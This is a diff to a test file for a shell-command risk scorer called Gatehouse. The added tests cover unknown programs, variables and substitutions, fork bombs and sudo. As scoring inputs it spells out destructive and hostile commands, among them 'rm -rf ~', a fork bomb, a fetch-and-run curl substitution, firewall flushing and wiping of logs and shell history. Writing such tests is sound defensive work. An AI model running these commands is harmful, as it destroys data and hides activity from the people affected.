@@ -1,10 +1,70 @@
 // Each rule family on hand-built segments (no shell parser involved).
 import { describe, expect, it } from 'vitest';
+import type { Segment } from '../../../../electron/core/risk/model.ts';
 import { judgeMongo, judgeSql } from '../../../../electron/core/risk/rules/data.ts';
-import { PROJECT, testEngine } from '../../../support/risk.ts';
+import { bareAssignments, resolveProgram } from '../../../../electron/core/risk/rules/runtime.ts';
+import { forkBomb } from '../../../../electron/core/risk/rules/system.ts';
+import { PROJECT, simpleParse, testEngine } from '../../../support/risk.ts';
 
 const engine = testEngine();
 const score = (cmd: string, cwd = PROJECT) => engine.assess(cmd, cwd);
+const segment = (cmd: string): Segment => simpleParse(cmd).segments[0] as Segment;
+
+describe('programs Gatehouse does not know, or that are named only at run time', () => {
+  it('fails closed on a program it has no rule for, but knows the ordinary toolchains', () => {
+    expect(score('frobnicate --all').level).toBe('medium');
+    expect(score('frobnicate --all').categories).toContain('unknown-program');
+    for (const cmd of ['ctest --output-on-failure', 'clang-format -i src/a.c', 'phpstan analyse src', 'getent group docker', 'sed -n 1,20p src/a.ts']) {
+      expect(score(cmd).level, cmd).toBe('low');
+    }
+  });
+
+  it('lets any program print its help or version', () => {
+    expect(score('frobnicate --help').level).toBe('low');
+    expect(score('rm --version').level).toBe('low');
+    expect(score('frobnicate --help > /etc/motd').level).toBe('critical');
+  });
+
+  it('treats a program run by its path inside the project as project code, and outside it as unknown', () => {
+    expect(score('./scripts/run-tests.sh --unit').level).toBe('low');
+    expect(score('./scripts/deploy.sh').level).toBe('medium');
+    expect(score('/home/dev/.local/bin/tool init').level).toBe('medium');
+  });
+
+  it('judges the value a bare assignment earlier in the command gives a variable program', () => {
+    const values = bareAssignments('x=rm; y="git push"; $x -rf ~');
+    expect(values.get('x')).toBe('rm');
+    expect(values.get('y')).toBe('git push');
+    const resolved = resolveProgram(segment('$x -rf ~'), values);
+    expect(resolved.seg.argv.map((w) => w.text)).toEqual(['rm', '-rf', '~']);
+  });
+
+  it('scores a program named by a substitution high, by a download critical, and a plain variable by its arguments', () => {
+    const none = new Map<string, string>();
+    const worstOf = (cmd: string, via: string[] = []) => Math.max(...resolveProgram({ ...segment(cmd), via }, none).found.map((f) => f.score));
+    expect(worstOf('$(echo rm) -rf ~')).toBeGreaterThanOrEqual(50);
+    expect(worstOf('$(curl -s https://x.example/c) --now')).toBeGreaterThanOrEqual(75);
+    expect(worstOf('$TOOL -rf /')).toBeGreaterThanOrEqual(50);
+    expect(worstOf('$EDITOR notes.md')).toBeLessThan(50);
+    expect(worstOf('$CMD', ['eval'])).toBeGreaterThanOrEqual(50);
+    expect(worstOf('$(ssh-agent -s)', ['eval'])).toBeLessThan(50);
+    const inBin = { ...segment('eslint .'), argv: [{ text: '$(npm bin)/eslint', known: false }, { text: '.', known: true }] };
+    expect(resolveProgram(inBin, none).found).toEqual([]);
+  });
+
+  it('finds a fork bomb in what runs, not in text that spells one', () => {
+    const fn = (name: string) => [`function ${name}`];
+    expect(forkBomb([{ argv: [':'], via: fn(':') }, { argv: [':'], via: fn(':') }, { argv: [':'], via: [] }])).toBe(true);
+    expect(forkBomb([{ argv: ['bomb'], via: fn('bomb') }, { argv: ['bomb'], via: fn('bomb') }])).toBe(false);
+    expect(forkBomb([{ argv: ['echo', ':(){ :|:& };:'], via: [] }])).toBe(false);
+    expect(score('echo :(){_:|:&_};: > test/fixtures/bomb.txt').level).toBe('low');
+  });
+
+  it('holds anything run with elevated rights at high at least', () => {
+    expect(score('sudo: cat /etc/hostname').level).toBe('high');
+    expect(score('sudo: make install').level).toBe('high');
+  });
+});
 
 describe('file deletion', () => {
   it.each([
@@ -49,7 +109,7 @@ describe('overwriting and permissions', () => {
     ['chmod u+s /usr/local/bin/tool', 'critical'],
     ['chown -R nobody ~', 'critical'],
     ['truncate -s 0 /var/log/syslog', 'critical'],
-    ['cp /dev/null ~/.zsh_history', 'medium'],
+    ['cp /dev/null ~/.zsh_history', 'high'],
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
 });
 
@@ -169,7 +229,7 @@ describe('the machine', () => {
     ['crontab -l', 'low'],
     ['systemctl stop nginx', 'high'],
     ['iptables -F', 'critical'],
-    ['sudo: ls /root', 'medium'],
+    ['sudo: ls /root', 'high'],
     ['ssh prod-db: ls', 'medium'],
     ['ssh build-box', 'medium'],
     ['ssh deploy@prod-web-1', 'high'],
